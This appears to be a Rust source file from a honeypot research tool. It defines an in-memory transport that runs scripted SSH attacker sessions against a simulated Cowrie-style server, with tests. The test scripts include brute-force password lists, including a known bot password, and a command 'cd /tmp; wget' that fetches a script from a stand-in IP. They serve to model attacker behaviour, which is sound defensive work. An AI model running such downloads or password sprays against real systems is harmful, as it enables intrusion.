@@ -1,0 +1,207 @@
+//! In-memory transport: shuttles bytes between a scripted client and a
+//! server until both sides go quiet.
+
+use crate::client::{ClientEvent, SshClient};
+use crate::server::{ServerHandler, SshServer};
+use crate::SshError;
+
+/// The result of a completed dialogue.
+#[derive(Debug)]
+pub struct DialogueLog {
+    /// Client-side milestones in order.
+    pub client_events: Vec<ClientEvent>,
+    /// Auth attempts the server saw: `(username, password, accepted)`.
+    pub auth_log: Vec<(String, Option<String>, bool)>,
+    /// Commands the server executed, in order.
+    pub exec_log: Vec<String>,
+    /// Username that authenticated, if any.
+    pub authenticated_user: Option<String>,
+    /// Total bytes that crossed the wire client → server.
+    pub bytes_to_server: u64,
+    /// Total bytes that crossed the wire server → client.
+    pub bytes_to_client: u64,
+}
+
+/// Runs `client` against `server` to completion over a lossless in-memory
+/// pipe. Returns the combined transcript, or the first protocol error.
+///
+/// The loop alternates directions; each iteration moves every pending byte,
+/// so it terminates as soon as both endpoints stop producing output.
+pub fn run_dialogue<H: ServerHandler>(
+    mut client: SshClient,
+    mut server: SshServer<H>,
+) -> Result<(DialogueLog, H), SshError> {
+    let mut to_server_total = 0u64;
+    let mut to_client_total = 0u64;
+    // A generous upper bound on rounds guards against ping-pong bugs; the
+    // longest legitimate dialogue (hundreds of commands) stays far below it.
+    for _ in 0..100_000 {
+        let to_server = client.take_output();
+        let to_client = server.take_output();
+        if to_server.is_empty() && to_client.is_empty() {
+            break;
+        }
+        if !to_server.is_empty() {
+            to_server_total += to_server.len() as u64;
+            server.input(&to_server)?;
+        }
+        if !to_client.is_empty() {
+            to_client_total += to_client.len() as u64;
+            client.input(&to_client)?;
+        }
+    }
+    let log = DialogueLog {
+        client_events: client.into_events(),
+        auth_log: server.auth_log().to_vec(),
+        exec_log: server.exec_log().to_vec(),
+        authenticated_user: server.authenticated_user().map(str::to_string),
+        bytes_to_server: to_server_total,
+        bytes_to_client: to_client_total,
+    };
+    Ok((log, server.into_handler()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::client::ClientScript;
+    use crate::server::AuthOutcome;
+    use crate::{CLIENT_VERSION_DEFAULT, SERVER_VERSION_DEFAULT};
+
+    /// Cowrie-style policy: root with any password except "root".
+    struct CowriePolicy {
+        executed: Vec<String>,
+    }
+
+    impl ServerHandler for CowriePolicy {
+        fn auth(&mut self, username: &str, password: Option<&str>) -> AuthOutcome {
+            match (username, password) {
+                ("root", Some(pw)) if pw != "root" => AuthOutcome::Accept,
+                _ => AuthOutcome::Reject,
+            }
+        }
+        fn exec(&mut self, command: &str) -> (Vec<u8>, u32) {
+            self.executed.push(command.to_string());
+            (format!("ran: {command}\n").into_bytes(), 0)
+        }
+    }
+
+    fn server() -> SshServer<CowriePolicy> {
+        SshServer::new(
+            CowriePolicy { executed: Vec::new() },
+            SERVER_VERSION_DEFAULT,
+            [1; 16],
+            b"server-nonce".to_vec(),
+        )
+    }
+
+    fn client(script: ClientScript) -> SshClient {
+        SshClient::new(script, b"client-nonce".to_vec())
+    }
+
+    #[test]
+    fn full_dialogue_with_bruteforce_and_commands() {
+        let script = ClientScript::new(
+            "root",
+            &["root", "admin"],
+            &["uname -a", "cd /tmp; wget http://198.51.100.9/x.sh"],
+        );
+        let (log, handler) = run_dialogue(client(script), server()).unwrap();
+
+        // Server rejected "root", accepted "admin".
+        assert_eq!(log.auth_log.len(), 2);
+        assert!(!log.auth_log[0].2);
+        assert!(log.auth_log[1].2);
+        assert_eq!(log.authenticated_user.as_deref(), Some("root"));
+
+        // Both commands executed in order, on the real wire path.
+        assert_eq!(log.exec_log, vec![
+            "uname -a".to_string(),
+            "cd /tmp; wget http://198.51.100.9/x.sh".to_string(),
+        ]);
+        assert_eq!(handler.executed.len(), 2);
+
+        // Client saw the milestones in order.
+        let ev = &log.client_events;
+        assert!(matches!(ev[0], ClientEvent::ServerVersion(ref v) if v.contains("OpenSSH")));
+        assert!(ev.contains(&ClientEvent::AuthFailed { password: "root".into() }));
+        assert!(ev.contains(&ClientEvent::AuthSucceeded { password: "admin".into() }));
+        let outputs: Vec<_> = ev
+            .iter()
+            .filter_map(|e| match e {
+                ClientEvent::CommandOutput { index, output, status } => {
+                    Some((*index, output.clone(), *status))
+                }
+                _ => None,
+            })
+            .collect();
+        assert_eq!(outputs.len(), 2);
+        assert_eq!(outputs[0].0, 0);
+        assert_eq!(String::from_utf8_lossy(&outputs[0].1), "ran: uname -a\n");
+        assert_eq!(outputs[0].2, Some(0));
+        assert!(matches!(ev.last(), Some(ClientEvent::Done)));
+        assert!(log.bytes_to_server > 0 && log.bytes_to_client > 0);
+    }
+
+    #[test]
+    fn scouting_session_auth_exhausted() {
+        // Password "root" is the one password Cowrie rejects.
+        let script = ClientScript::new("root", &["root"], &["id"]);
+        let (log, _) = run_dialogue(client(script), server()).unwrap();
+        assert!(log.exec_log.is_empty());
+        assert!(log.authenticated_user.is_none());
+        assert!(log.client_events.contains(&ClientEvent::AuthExhausted));
+    }
+
+    #[test]
+    fn intrusion_session_no_commands() {
+        let script = ClientScript::new("root", &["admin"], &[]);
+        let (log, _) = run_dialogue(client(script), server()).unwrap();
+        assert!(log.exec_log.is_empty());
+        assert_eq!(log.authenticated_user.as_deref(), Some("root"));
+        assert!(matches!(log.client_events.last(), Some(ClientEvent::Done)));
+    }
+
+    #[test]
+    fn hangup_after_auth_models_3245gs_behaviour() {
+        let mut script = ClientScript::new("root", &["3245gs5662d34"], &["never-run"]);
+        script.hangup_after_auth = true;
+        let (log, _) = run_dialogue(client(script), server()).unwrap();
+        assert!(log.exec_log.is_empty(), "must not open a channel");
+        assert!(log
+            .client_events
+            .contains(&ClientEvent::AuthSucceeded { password: "3245gs5662d34".into() }));
+    }
+
+    #[test]
+    fn wrong_username_never_authenticates() {
+        let script = ClientScript::new("admin", &["admin", "1234", "password"], &["id"]);
+        let (log, _) = run_dialogue(client(script), server()).unwrap();
+        assert_eq!(log.auth_log.len(), 3);
+        assert!(log.auth_log.iter().all(|(_, _, ok)| !ok));
+        assert!(log.authenticated_user.is_none());
+    }
+
+    #[test]
+    fn many_commands_over_one_dialogue() {
+        // curl_maxred-style: ~100 commands per session (Appendix C).
+        let cmds: Vec<String> =
+            (0..100).map(|i| format!("curl https://203.0.113.{}/ -s -X GET", i + 1)).collect();
+        let cmd_refs: Vec<&str> = cmds.iter().map(String::as_str).collect();
+        let script = ClientScript::new("root", &["qwerty"], &cmd_refs);
+        let (log, _) = run_dialogue(client(script), server()).unwrap();
+        assert_eq!(log.exec_log.len(), 100);
+        assert_eq!(log.exec_log[99], cmds[99]);
+    }
+
+    #[test]
+    fn client_version_is_recorded_by_server() {
+        let script = ClientScript::new("root", &["x"], &[]);
+        let mut srv = server();
+        let mut cli = client(script);
+        // Manually pump one round so the server sees the banner.
+        let banner = cli.take_output();
+        srv.input(&banner).unwrap();
+        assert_eq!(srv.peer_version(), Some(CLIENT_VERSION_DEFAULT));
+    }
+}
